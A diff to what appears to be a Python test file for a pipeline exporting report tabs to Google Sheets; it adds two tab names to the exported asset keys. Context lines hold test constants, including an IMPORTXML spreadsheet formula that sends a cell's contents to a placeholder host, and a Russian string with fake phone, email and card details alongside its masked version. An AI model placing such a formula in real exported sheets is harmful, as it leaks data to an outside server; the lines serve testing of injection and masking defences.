@@ -30,7 +30,9 @@ ABOVE = {
     "chat_advice": 2, "weekly_behavior_delta_managers": 3, "behavior_snapshot_managers": 2,
 }  # fmt: skip
 """Lines above the heading: which week, as of when; what colours mean."""
-KEYS = [dg.AssetKey(["exports", f"google_sheets__{tab}"]) for tab in ("read_me", *TABS, "data_status")]
+OF_TALKS = ["calls_and_chats", "call_results"]
+"""Those that are shown once there are calls or scores: not in these tests."""
+KEYS = [dg.AssetKey(["exports", f"google_sheets__{tab}"]) for tab in ("read_me", *TABS, *OF_TALKS, "data_status")]
 FORMULA = '=IMPORTXML("http://example.invalid/?"&A1)'
 SECRET = "Мой номер 8 (926) 123-45-67, почта anna@example.ru, карта 4111 1111 1111 1111; заказ 1234567 на 12 990 ₽"
 MASKED = "Мой номер [телефон], почта [почта], карта [карта]; заказ 1234567 на 12 990 ₽"
